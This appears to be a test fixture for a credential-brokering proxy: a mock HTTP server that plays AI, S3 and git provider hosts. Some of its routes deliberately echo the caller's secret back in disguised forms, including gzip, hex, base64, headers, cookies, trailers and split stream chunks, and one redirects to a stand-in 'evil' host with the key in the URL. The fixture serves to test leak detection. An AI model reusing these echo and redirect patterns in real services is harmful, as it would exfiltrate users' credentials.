// Hosts of providers as the world plays them: they check the credential, and some of their routes give it back as an attacker would
// want them to.
import { createHash } from 'node:crypto';
import { createReadStream } from 'node:fs';
import type { IncomingMessage, RequestListener, ServerResponse } from 'node:http';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { PLAYED, VALUES } from './values.ts';

type Answer = (response: ServerResponse, secret: string) => void;

const DATA = { 'Content-Type': 'text/event-stream' };

/** Ways to give a credential back. */
const ECHOES: Readonly<Record<string, Answer>> = {
  plain: (response, secret) => response.end(`you sent ${secret} to us`),
  gzip: (response, secret) => response.writeHead(200, { 'Content-Encoding': 'gzip' }).end(gzipSync(secret)),
  'refused-gzip': (response, secret) =>
    response.writeHead(403, { 'Content-Encoding': 'gzip' }).end(gzipSync(secret)),
  hex: (response, secret) => response.end(Buffer.from(secret).toString('hex')),
  HEX: (response, secret) => response.end(Buffer.from(secret).toString('hex').toUpperCase()),
  'base64-0': (response, secret) => response.end(Buffer.from(secret).toString('base64')),
  'base64-1': (response, secret) => response.end(Buffer.from(`a${secret}b`).toString('base64')),
  'base64-2': (response, secret) => response.end(Buffer.from(`ab${secret}c`).toString('base64url')),
  percent: (response, secret) =>
    response.end([...Buffer.from(secret)].map((byte) => `%${byte.toString(16)}`).join('')),
  location: (response, secret) =>
    response.writeHead(302, { Location: `https://${PLAYED.evil}/?k=${secret}` }).end(),
  header: (response, secret) => response.writeHead(200, { 'X-You-Sent': secret }).end('ok'),
  cookie: (response, secret) =>
    response.writeHead(200, { 'Set-Cookie': `k=${Buffer.from(secret).toString('base64')}` }).end('ok'),
  reason: (response, secret) => response.writeHead(200, secret).end('ok'),
  hint: (response, secret) => {
    response.writeEarlyHints({ link: `</${secret}>; rel=preload` });
    response.end('ok');
  },
  trailer: (response, secret) => {
    response.writeHead(200, { Trailer: 'X-You-Sent' });
    response.write('ok');
    response.addTrailers({ 'X-You-Sent': secret });
    response.end();
  },
  split: (response, secret) => {
    response.writeHead(200, DATA);
    const pieces = [`data: ${secret.slice(0, 9)}`, secret.slice(9, 20), `${secret.slice(20)}\n\n`];
    const next = (): void => {
      const piece = pieces.shift();
      if (piece === undefined) response.end();
      else response.write(piece, () => setTimeout(next, 60));
    };
    next();
  },
  nearly: (response, secret) => response.end(`it begins with ${secret.slice(0, 20)}`),
  stored: (response) => response.end('kept'),
};

async function bodyOf(request: IncomingMessage): Promise<string> {
  const pieces: Buffer[] = [];
  for await (const piece of request) pieces.push(piece as Buffer);
  return Buffer.concat(pieces).toString('latin1');
}

function credentialOf({ headers, url = '' }: IncomingMessage): string {
  const { authorization = '' } = headers;
  const basic = /^Basic (.*)$/.exec(authorization)?.[1];
  if (basic !== undefined) return Buffer.from(basic, 'base64').toString().split(':').slice(1).join(':');
  const query = new URL(url, 'http://x').searchParams.get('key');
  const header = headers['x-api-key'] ?? headers['x-goog-api-key'];
  return query ?? header?.toString() ?? authorization.replace(/^Bearer /, '');
}

/** As S3 repeats it in the body of a refusal. */
function signatureOf({ headers }: IncomingMessage): string {
  return /Signature=([0-9a-f]{64})$/.exec(headers.authorization ?? '')?.[1] ?? '';
}

function complete(response: ServerResponse, body: string): void {
  const model = { id: 'c1', created: 1, model: 'm' };
  if (!body.includes('"stream":true') && !body.includes('"stream": true')) {
    const choices = [
      { index: 0, finish_reason: 'stop', message: { role: 'assistant', content: 'brokered hello' } },
    ];
    response
      .writeHead(200, { 'Content-Type': 'application/json' })
      .end(JSON.stringify({ ...model, object: 'chat.completion', choices }));
    return;
  }
  response.writeHead(200, DATA);
  for (const content of ['brokered ', 'hello'])
    response.write(
      `data: ${JSON.stringify({ ...model, object: 'chat.completion.chunk', choices: [{ index: 0, delta: { content } }] })}\n\n`,
    );
  response.end('data: [DONE]\n\n');
}

const MESSAGE = {
  ...{
    id: 'm1',
    type: 'message',
    role: 'assistant',
    model: 'm',
    stop_reason: 'end_turn',
    stop_sequence: null,
  },
  content: [{ type: 'text', text: 'brokered hello' }],
  usage: { input_tokens: 1, output_tokens: 1 },
};

/** What each host wants to be asked with. */
export type Wanted = Readonly<Partial<Record<keyof typeof PLAYED, string>>>;

const USUAL: Wanted = Object.fromEntries(Object.entries(VALUES).map(([name, [value]]) => [name, value]));

/** Plays all of them. `tell` is given what each request was. */
export function playHosts(
  tell: (line: object) => void,
  folder: string,
  values: Wanted = USUAL,
): RequestListener {
  const asked = new WeakSet<object>();
  const play = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    const { url = '/', method, headers } = request;
    const { host = '' } = headers;
    if (url.startsWith('/forever')) {
      tell({ played: host, method, url, raw: request.rawHeaders });
      response.writeHead(200, DATA).write('data: first\n\n');
      const timer = setInterval(() => response.write('data: more\n\n'), 100);
      response.once('close', () => {
        clearInterval(timer);
        tell({ closed: url });
      });
      return;
    }
    if (url === '/once' && asked.has(request.socket)) {
      tell({ played: host, method, url });
      request.socket.destroy();
      return;
    }
    asked.add(request.socket);
    const body = await bodyOf(request);
    const credential = credentialOf(request);
    tell({ played: host, method, url, raw: request.rawHeaders, body, trailers: request.rawTrailers });
    const name = Object.entries(PLAYED).find(([, played]) => played === host)?.[0] ?? 'evil';
    const wanted = values[name as keyof typeof PLAYED];
    const echo = /^\/echo\/([\w-]+)/.exec(url)?.[1];
    const isSigned = host.endsWith('amazonaws.com');
    // One that is signed with is in no request: a host has it from elsewhere.
    const signature = /^\/signature\/([\w-]+)/.exec(url)?.[1];
    if (signature !== undefined) ECHOES[signature]?.(response, signatureOf(request));
    else if (echo !== undefined) ECHOES[echo]?.(response, isSigned ? (wanted ?? '') : credential);
    else if (isSigned) answerAws(request, response, body);
    else if (credential !== wanted)
      response.writeHead(401, { 'WWW-Authenticate': 'Basic realm="x"' }).end(`wrong credential`);
    else if (url.startsWith('/repo.git/'))
      createReadStream(join(folder, url.split('?')[0] ?? ''))
        .on('error', () => response.writeHead(404).end())
        .pipe(response);
    else if (url === '/v1/chat/completions') complete(response, body);
    else if (url.startsWith('/v1/messages'))
      response.writeHead(200, { 'Content-Type': 'application/json' }).end(JSON.stringify(MESSAGE));
    else response.end(`brokered hello ${createHash('sha256').update(body, 'latin1').digest('hex')}`);
  };
  return (request, response) => {
    play(request, response).catch(() => response.destroy());
  };
}

// What is signed is checked by the test, which has the code to do so.
function answerAws({ url = '', method }: IncomingMessage, response: ServerResponse, body: string): void {
  if (url.includes('list-type')) {
    const xml =
      '<ListBucketResult><Name>bucket</Name><Contents><Key>brokered hello</Key></Contents></ListBucketResult>';
    response.writeHead(200, { 'Content-Type': 'application/xml' }).end(xml);
  } else if (method === 'PUT') response.writeHead(200, { ETag: '"1"' }).end();
  else
    response
      .writeHead(200, { 'Content-Type': 'application/json' })
      .end(JSON.stringify({ hello: body.length }));
}
